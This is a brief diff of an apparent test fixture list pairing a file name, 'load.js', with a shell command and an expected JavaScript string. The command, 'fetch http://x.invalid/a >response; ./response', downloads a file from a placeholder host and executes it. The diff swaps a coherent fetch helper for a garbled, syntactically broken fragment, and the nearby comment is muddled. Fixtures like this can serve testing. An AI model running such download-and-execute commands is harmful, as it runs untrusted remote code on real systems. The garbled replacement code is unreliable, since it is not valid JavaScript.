@@ -25,7 +25,7 @@ PAIRS = [
     (
         "load.js",
         "fetch http://x.invalid/a >response; ./response",
-        'read=async url=>{var response=await fetch(url,{mode:"cors"});if(response.ok){return response.text()}}',
+        "./(url=>{var fetch(;var",
     ),
     # What a variable is set to is no program, however a shell works it out, and nothing is kept under /dev/null.
     (
